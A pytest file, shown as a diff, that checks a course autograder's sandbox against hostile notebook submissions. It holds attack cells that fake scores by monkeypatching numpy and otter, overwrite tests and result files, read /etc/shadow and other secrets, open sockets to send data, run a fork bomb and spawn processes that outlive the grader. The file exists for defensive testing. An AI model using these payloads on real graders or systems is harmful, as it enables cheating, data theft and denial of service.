@@ -1,0 +1,550 @@
+"""A hostile class, graded in one batch: nobody scores more than their honest answers earn.
+
+Every attack is the same plausibly wrong notebook for chapter 6 (it earns 2 of
+12 points on its own) plus a cell that tries to raise the score, escape, leave
+something behind or take the grader down. The attacker knows every secret path
+(the autograder zip, the solution notebook, the master, the other
+submissions), as a student reading the grader's command line once could.
+
+After the batch: each attack scored at most the honest notebook, the victim
+of a neighbour's attack kept its full marks and its bytes, every submission
+finished inside its limits, no process the submissions started is still
+running, no cgroup is left, and nothing was written outside the sandboxes'
+own scratch space.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import socket
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import psutil
+import pytest
+from conftest import ROOT
+
+from course_tools import grading
+from course_tools.sandbox import FIRST_UID, isolation
+
+pytestmark = pytest.mark.slow
+
+CHAPTER = "ch06_rnn"
+TIMEOUT_S = 20
+MEMORY_MB = 1536
+JOBS = 2
+
+# Plausible wrong answers: the right shapes, the wrong values (public tests of q1 and q2 pass).
+HONEST = {
+    "def rnn_step": "def rnn_step(x, h, W_xh, W_hh, b):\n    return np.zeros((x.shape[0], W_hh.shape[0]))\n",
+    "def rnn_forward": "def rnn_forward(xs, h0, W_xh, W_hh, b):\n    hs = np.zeros((len(xs), h0.shape[0], W_hh.shape[0]))\n    return hs, hs[-1]\n",
+    "def softmax_with_temperature": "def softmax_with_temperature(logits, temperature):\n    return np.ones(len(logits)) / len(logits)\n",
+    "def rnn_lm_parameter_count": "def rnn_lm_parameter_count(V, E, H):\n    return V * E + H * H\n",
+}
+HONEST_POINTS = 2.0
+
+
+def _attacks(secrets: dict[str, str], marker: str, port: int) -> dict[str, tuple[str, str]]:
+    """name → (where the cell goes: "start" after the imports, or "end"; its source)."""
+    s = {k: json.dumps(v) for k, v in secrets.items()}
+    return {
+        "patch_numpy": (
+            "start",
+            (
+                "import builtins\n"
+                "np.allclose = lambda *a, **k: True\n"
+                "np.all = lambda *a, **k: True\n"
+                "np.testing.assert_allclose = lambda *a, **k: None\n"
+                "builtins.abs = lambda x: 0\n"
+            ),
+        ),
+        "patch_otter": (
+            "start",
+            (
+                "import otter\n"
+                "from otter.test_files import abstract_test, exception_test\n"
+                "abstract_test.TestFile.score = property(lambda self: 1000)\n"
+                "abstract_test.TestFile.passed_all = property(lambda self: True)\n"
+                "exception_test.ExceptionTestFile.run = lambda self, env: None\n"
+                "otter.Notebook.check = lambda *a, **k: None\n"
+            ),
+        ),
+        "rewrite_tests_on_disk": (
+            "start",
+            (
+                "import os\n"
+                f"for path in [{s['zip']}, {s['solution']}, {s['master']}]:\n"
+                "    try:\n"
+                "        open(path, 'w').write('points = 1000')\n"
+                "        print('WROTE', path)\n"
+                "    except OSError as e:\n"
+                "        print('blocked', path, e.errno)\n"
+                "for top in ['/tmp', '/work', '/root', '/home', '/srv', '/opt']:\n"
+                "    for folder, dirs, files in os.walk(top):\n"
+                "        dirs[:] = [d for d in dirs if d not in ('site-packages', '.pyenv', 'include', 'share')]\n"
+                "        for name in files:\n"
+                "            if name.endswith('.zip') or (name.startswith('q') and name.endswith('.py')):\n"
+                "                try:\n"
+                "                    open(os.path.join(folder, name), 'w').write('points = 1000')\n"
+                "                    print('WROTE', os.path.join(folder, name))\n"
+                "                except OSError:\n"
+                "                    pass\n"
+            ),
+        ),
+        "results_file_thread": (
+            "start",
+            (
+                "import json, os, threading, time\n"
+                "forged = {'tests': [{'name': q, 'score': 1000, 'possible': 3} for q in ('q1', 'q2', 'q3', 'q4')]}\n"
+                "def overwrite():\n"
+                "    while True:\n"
+                "        for folder in ['.', '/tmp', os.path.expanduser('~')]:\n"
+                "            try:\n"
+                "                json.dump(forged, open(os.path.join(folder, 'results.json'), 'w'))\n"
+                "            except OSError:\n"
+                "                pass\n"
+                "        time.sleep(0.001)\n"
+                "threading.Thread(target=overwrite, daemon=True).start()\n"
+            ),
+        ),
+        "forge_protocol_frames": (
+            "start",
+            (
+                "import os, threading\n"
+                "from course_tools import wire\n"
+                "frame = wire.pack({'op': 'value', 'v': {'$f': '242.0'}}, [])\n"
+                "def forge():\n"
+                "    for _ in range(200):\n"
+                "        for fd in range(3, 64):\n"
+                "            try:\n"
+                "                if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
+                "                    os.write(fd, frame)\n"
+                "            except OSError:\n"
+                "                pass\n"
+                "threading.Thread(target=forge, daemon=True).start()\n"
+            ),
+        ),
+        "exec_the_solution": (
+            "start",
+            (
+                "import json\n"
+                f"for path in [{s['solution']}, {s['victim']}]:\n"
+                "    try:\n"
+                "        cells = json.load(open(path))['cells']\n"
+                "        print('READ', path)\n"
+                "        for cell in cells:\n"
+                "            source = ''.join(cell['source'])\n"
+                "            if cell['cell_type'] == 'code' and 'grader' not in source:\n"
+                "                exec(source, globals())\n"
+                "    except OSError as e:\n"
+                "        print('blocked', path, e.errno)\n"
+            ),
+        ),
+        "read_outside": (
+            "start",
+            (
+                f"for path in [{s['zip']}, {s['master']}, {s['victim']}, {s['folder']}, '/etc/shadow',\n"
+                "             '/root/.bashrc', '/proc/1/environ', '/work/main/exercises']:\n"
+                "    try:\n"
+                "        import os\n"
+                "        data = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(64)\n"
+                "        print('READ', path, len(data))\n"
+                "    except OSError as e:\n"
+                "        print('blocked', path, e.errno)\n"
+            ),
+        ),
+        "overwrite_a_neighbour": (
+            "start",
+            (
+                f"for path in [{s['victim']}, {s['folder']} + '/planted.ipynb']:\n"
+                "    try:\n"
+                "        open(path, 'w').write('{}')\n"
+                "        print('WROTE', path)\n"
+                "    except OSError as e:\n"
+                "        print('blocked', path, e.errno)\n"
+            ),
+        ),
+        "network": (
+            "start",
+            (
+                "import socket\n"
+                f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 443)]:\n"
+                "    try:\n"
+                "        socket.create_connection(address, timeout=2).sendall(b'LEAK')\n"
+                "        print('CONNECTED', address)\n"
+                "    except OSError as e:\n"
+                "        print('blocked', address, e.errno)\n"
+            ),
+        ),
+        "escape_write": (
+            "start",
+            (
+                f"for path in ['/tmp/{marker}', '/root/{marker}', '/work/{marker}', '/work/main/src/{marker}', '/{marker}']:\n"
+                "    try:\n"
+                "        open(path, 'w').write('x')\n"
+                "    except OSError:\n"
+                "        pass\n"
+            ),
+        ),
+        "fill_tmp": (
+            "start",
+            (
+                "written = 0\n"
+                "try:\n"
+                "    with open('/tmp/fill', 'wb') as handle:\n"
+                "        while written < 20 * 1024**3:\n"
+                "            handle.write(b'\\0' * 2**20)\n"
+                "            written += 2**20\n"
+                "except OSError as e:\n"
+                "    print('STOPPED', written // 2**20, e.errno)\n"
+                "import os\n"
+                "os.remove('/tmp/fill')\n"
+            ),
+        ),
+        "allocate_20_gb": ("start", "hog = bytearray(20 * 1024**3)\n"),
+        "three_forked_holders": (
+            "start",
+            (
+                "import os, time\n"
+                "children = []\n"
+                "for i in range(3):\n"
+                "    pid = os.fork()\n"
+                "    if pid == 0:\n"
+                "        try:\n"
+                "            block = bytearray(b'\\1') * (700 * 2**20)\n"
+                "            print('HELD', i, flush=True)\n"
+                "            time.sleep(4)\n"
+                "        finally:\n"
+                "            os._exit(0)\n"
+                "    children.append(pid)\n"
+                "for pid in children:\n"
+                "    os.waitpid(pid, 0)\n"
+            ),
+        ),
+        "huge_output": (
+            "start",
+            (
+                "import sys\n"
+                "line = 'x' * 999_999 + '\\n'\n"
+                "for _ in range(100):\n"
+                "    sys.stdout.write(line)\n"
+                "sys.stdout.flush()\n"
+            ),
+        ),
+        "children_outlive": (
+            "start",
+            (
+                "import os, subprocess\n"
+                f"subprocess.Popen(['sh', '-c', 'sleep 1000 # {marker}'])\n"
+                "if os.fork() == 0:\n"
+                "    os.setsid()\n"
+                "    if os.fork() == 0:\n"
+                "        os.closerange(0, 1024)\n"
+                f"        os.execv('/bin/sh', ['sh', '-c', 'sleep 1000 # {marker}'])\n"
+                "    os._exit(0)\n"
+            ),
+        ),
+        "equal_to_everything": (
+            "end",
+            (
+                "class Anything(float):\n"
+                "    def __eq__(self, other): return True\n"
+                "    __hash__ = float.__hash__\n"
+                "class Yes:\n"
+                "    def __eq__(self, other): return True\n"
+                "    def __array__(self, *a, **k): return np.zeros(1)\n"
+                "def rnn_lm_parameter_count(V, E, H):\n"
+                "    return Yes()\n"
+                "def softmax_with_temperature(logits, temperature):\n"
+                "    return Anything(1.0)\n"
+            ),
+        ),
+        # Statuses and partial credit: these end in a loop, after the honest cells.
+        "setsid_daemon_and_loop": (
+            "end",
+            (
+                "import subprocess\n"
+                f"subprocess.Popen(['setsid', 'sh', '-c', 'trap \"\" TERM HUP; while true; do echo daemon; sleep 0.2; done # {marker}'])\n"
+                "while True:\n"
+                "    pass\n"
+            ),
+        ),
+        "ignore_sigterm_and_loop": (
+            "end",
+            (
+                "import signal\n"
+                "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+                "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                "while True:\n"
+                "    pass\n"
+            ),
+        ),
+        "fork_bomb": (
+            "end",
+            (
+                "import os\n"
+                "while True:\n"
+                "    try:\n"
+                "        os.fork()\n"
+                "    except OSError:\n"
+                "        pass\n"
+            ),
+        ),
+    }
+
+
+def _cells_with(notebook: dict, replacements: dict[str, str]) -> dict:
+    copy = json.loads(json.dumps(notebook))
+    for marker, source in replacements.items():
+        cells = [
+            c
+            for c in copy["cells"]
+            if c["cell_type"] == "code" and "".join(c["source"]).startswith(marker)
+        ]
+        assert len(cells) == 1, marker
+        cells[0]["source"] = source
+    return copy
+
+
+def _insert(notebook: dict, where: str, source: str) -> dict:
+    copy = json.loads(json.dumps(notebook))
+    cell = {
+        "cell_type": "code",
+        "metadata": {},
+        "outputs": [],
+        "execution_count": None,
+        "source": source,
+    }
+    if where == "end":
+        copy["cells"].append(cell)
+    else:
+        imports = next(
+            i
+            for i, c in enumerate(copy["cells"])
+            if "".join(c["source"]).strip() == "import numpy as np"
+        )
+        copy["cells"].insert(imports + 1, cell)
+    return copy
+
+
+def _digest(paths: list[Path]) -> dict[str, str]:
+    found = {}
+    for path in paths:
+        for file in [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file()):
+            found[str(file)] = hashlib.sha256(file.read_bytes()).hexdigest()
+    return found
+
+
+def _processes_with(marker: str) -> list[str]:
+    found = []
+    for process in psutil.process_iter(["cmdline", "uids"]):
+        cmdline = " ".join(process.info.get("cmdline") or [])
+        uids = process.info.get("uids")
+        sandbox_uid = uids is not None and FIRST_UID <= uids.real < FIRST_UID + 64
+        if marker in cmdline or sandbox_uid:
+            found.append(f"{process.pid} {cmdline[:80]}")
+    return found
+
+
+class _Listener:
+    """A TCP server on the grader's loopback that records whoever connects."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self.stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.stop:
+            try:
+                connection, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            connection.close()
+
+    def close(self) -> None:
+        self.stop = True
+        self.thread.join(2)
+        self.sock.close()
+
+
+@pytest.fixture(scope="module")
+def attacked(assignments, tmp_path_factory):
+    assignment = assignments[CHAPTER]
+    marker = f"ESCAPE-{uuid.uuid4().hex[:10]}"
+    folder = tmp_path_factory.mktemp("hostile-class")
+    solution = json.loads(assignment.autograder_notebook.read_text(encoding="utf-8"))
+    blank = json.loads((ROOT / "notebooks" / f"{CHAPTER}.ipynb").read_text(encoding="utf-8"))
+    honest = _cells_with(blank, HONEST)
+    secrets = {
+        "zip": str(assignment.autograder_zip.resolve()),
+        "solution": str(assignment.autograder_notebook.resolve()),
+        "master": str(ROOT / "exercises" / f"{CHAPTER}.md"),
+        "folder": str(folder.resolve()),
+        "victim": str((folder / "victim.ipynb").resolve()),
+    }
+    listener = _Listener()
+    notebooks = {"honest": honest, "victim": solution, "blank": blank}
+    for name, (where, source) in _attacks(secrets, marker, listener.port).items():
+        notebooks[name] = _insert(honest, where, source)
+    notebooks["correct_then_loop"] = _insert(solution, "end", "while True:\n    pass\n")
+    for name, notebook in notebooks.items():
+        (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
+    how = isolation()
+    parents = list(how.cgroup.parents.values()) if how.cgroup else []
+    cgroups_before = {p for parent in parents for p in parent.glob("course-grade-*")}
+    guarded = [
+        folder,
+        assignment.autograder_zip,
+        assignment.autograder_notebook,
+        ROOT / "exercises",
+        ROOT / "src",
+    ]
+    before = _digest(guarded)
+    start = time.perf_counter()
+    try:
+        results = grading.grade_batch(
+            folder, assignment.autograder_zip, jobs=JOBS, timeout_s=TIMEOUT_S, memory_mb=MEMORY_MB
+        )
+    finally:
+        listener.close()
+    elapsed = time.perf_counter() - start
+    time.sleep(0.5)  # anything still alive would show up now
+    return {
+        "results": {r.submission.removesuffix(".ipynb"): r for r in results},
+        "elapsed": elapsed,
+        "marker": marker,
+        "left_running": _processes_with(marker),
+        "before": before,
+        "after": _digest(guarded),
+        "listener": listener,
+        "folder": folder,
+        "cgroups_left": {p for parent in parents for p in parent.glob("course-grade-*")}
+        - cgroups_before,
+    }
+
+
+def test_the_honest_baseline_earns_what_its_answers_earn(attacked):
+    results = attacked["results"]
+    assert results["honest"].total == HONEST_POINTS, results["honest"].failures
+    assert results["blank"].total == 0
+    assert results["victim"].total == results["victim"].max_total == 12
+
+
+@pytest.mark.parametrize(
+    "attack",
+    sorted(_attacks({k: "" for k in ("zip", "solution", "master", "folder", "victim")}, "", 0)),
+)
+def test_no_attack_scores_more_than_its_honest_answers(attacked, attack):
+    result = attacked["results"][attack]
+    assert result.total <= attacked["results"]["honest"].total, (
+        result.scores,
+        result.reason,
+        result.output[-500:],
+    )
+    assert all(result.scores[q] <= result.possible[q] for q in result.possible)
+
+
+def test_a_neighbours_attack_leaves_the_victim_its_grade_and_its_file(attacked):
+    victim = attacked["results"]["victim"]
+    assert victim.status == "ok" and victim.total == 12
+    assert not (attacked["folder"] / "planted.ipynb").exists()
+    assert attacked["before"] == attacked["after"], (
+        "a submission, the answers or the course files changed"
+    )
+
+
+def test_nothing_secret_could_be_read_written_or_reached(attacked):
+    for name in (
+        "rewrite_tests_on_disk",
+        "exec_the_solution",
+        "read_outside",
+        "overwrite_a_neighbour",
+        "network",
+    ):
+        output = attacked["results"][name].output
+        assert "blocked" in output, (name, output[-500:])
+        for verb in ("READ", "WROTE", "CONNECTED"):
+            assert f"\n{verb} " not in "\n" + output, (name, output[-800:])
+    assert attacked["listener"].connections == 0
+
+
+def test_nothing_was_written_outside_the_sandbox(attacked):
+    marker = attacked["marker"]
+    for folder in (Path("/tmp"), Path.home(), ROOT.parent, ROOT, ROOT / "src", Path("/")):
+        assert not (folder / marker).exists(), folder / marker
+
+
+def test_nothing_the_submissions_started_is_still_running(attacked):
+    assert attacked["left_running"] == []
+    assert not any(
+        "left running" in r.reason or "outlived" in r.reason for r in attacked["results"].values()
+    )
+    assert attacked["cgroups_left"] == set()
+
+
+def test_a_correct_notebook_ending_in_a_loop_keeps_its_points(attacked):
+    result = attacked["results"]["correct_then_loop"]
+    assert result.status == "timeout" and result.total == 12, result.reason
+    assert f"{TIMEOUT_S} s limit" in result.reason
+
+
+@pytest.mark.parametrize(
+    "attack", ["setsid_daemon_and_loop", "ignore_sigterm_and_loop", "fork_bomb"]
+)
+def test_endless_submissions_are_cut_at_the_limit_whatever_they_do(attacked, attack):
+    result = attacked["results"][attack]
+    assert result.status == "timeout", result.reason
+    assert result.total == HONEST_POINTS  # graded before the loop
+    assert result.seconds < TIMEOUT_S + 15
+
+
+def test_the_batch_finishes_within_its_limits(attacked):
+    results = attacked["results"]
+    slowest = max(r.seconds for r in results.values())
+    assert slowest < TIMEOUT_S + 15
+    # Four submissions run to the limit; the rest take seconds. Two at a time.
+    assert attacked["elapsed"] < (len(results) / JOBS) * 10 + 2 * (TIMEOUT_S + 15)
+
+
+def test_output_is_kept_as_a_bounded_tail(attacked):
+    result = attacked["results"]["huge_output"]
+    assert result.status == "ok" and result.total == HONEST_POINTS
+    assert "bytes left out" in result.output
+    assert len(result.output.encode()) < 70 * 1024
+
+
+def test_memory_is_capped_for_the_submission_as_a_whole(attacked):
+    results = attacked["results"]
+    assert results["allocate_20_gb"].total == HONEST_POINTS
+    assert "MemoryError" in results["allocate_20_gb"].reason
+    holders = results["three_forked_holders"]
+    if holders.peak_memory_mb is None:
+        pytest.skip("no memory cgroup here: the cap is per process (see the README)")
+    assert holders.peak_memory_mb <= MEMORY_MB + 1, holders.peak_memory_mb
+    assert holders.output.count("HELD") < 3, holders.output[-300:]
+
+
+def test_a_full_tmp_stops_the_writer_not_the_grader(attacked):
+    result = attacked["results"]["fill_tmp"]
+    assert result.status == "ok" and result.total == HONEST_POINTS
+    stopped = [line for line in result.output.splitlines() if line.startswith("STOPPED")]
+    assert stopped and int(stopped[0].split()[1]) <= grading.Limits().tmp_mb
+
+
+def test_the_csv_names_the_sandbox(attacked, tmp_path):
+    out = tmp_path / "grades.csv"
+    grading.write_csv(list(attacked["results"].values()), out)
+    rows = list(__import__("csv").DictReader(out.open(encoding="utf-8")))
+    assert {row["sandbox"] for row in rows} == {isolation().description}
+    assert "UNSAFE" not in rows[0]["sandbox"]
